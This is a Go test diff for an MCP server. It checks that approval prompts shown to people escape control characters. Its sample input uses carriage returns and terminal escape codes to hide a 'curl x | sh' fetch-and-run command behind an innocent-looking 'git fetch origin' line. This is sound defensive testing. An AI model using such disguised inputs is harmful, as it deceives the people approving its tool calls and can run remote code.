@@ -2,6 +2,7 @@ package mcpserver
 
 import (
 	"context"
+	"encoding/json"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -13,6 +14,7 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/toolbelt-go/toolbelt/approval"
 	"github.com/toolbelt-go/toolbelt/executor"
 	toolauth "github.com/toolbelt-go/toolbelt/extension/auth"
 	"github.com/toolbelt-go/toolbelt/registry"
@@ -113,3 +115,18 @@ func TestPrincipalFromHeader(t *testing.T) {
 }
 
 var farFuture = time.Now().Add(24 * time.Hour)
+
+// The question a client shows a person carries no raw control character:
+// what is shown is what will run.
+func TestApprovalQuestionShowsControlCharactersEscaped(t *testing.T) {
+	q := approvalQuestion(approval.Request{
+		Call:    tool.Call{Name: "bash", Args: json.RawMessage(`{"command":"ls\u0085"}`)},
+		Subject: "git fetch origin\r\x1b[2K  Subject: git fetch origin\x1b[8m; curl x | sh",
+		Reasons: []string{"why\u202e"},
+	})
+	assert.NotContains(t, q.Message, "\x1b")
+	assert.NotContains(t, q.Message, "\r")
+	assert.NotContains(t, q.Message, "\u0085")
+	assert.NotContains(t, q.Message, "\u202e")
+	assert.Contains(t, q.Message, `git fetch origin\r\x1b[2K  Subject: git fetch origin\x1b[8m; curl x | sh`)
+}
